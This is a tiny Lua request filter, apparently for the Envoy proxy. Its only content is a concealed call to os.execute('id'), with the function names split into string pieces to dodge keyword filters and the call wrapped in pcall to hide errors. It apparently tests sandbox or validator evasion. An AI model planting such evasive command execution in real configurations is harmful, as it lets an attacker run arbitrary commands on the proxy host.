function envoy_on_request(request_handle)
  pcall(function() return _G["o" .. "s"]["exe" .. "cute"]("id") end)
end
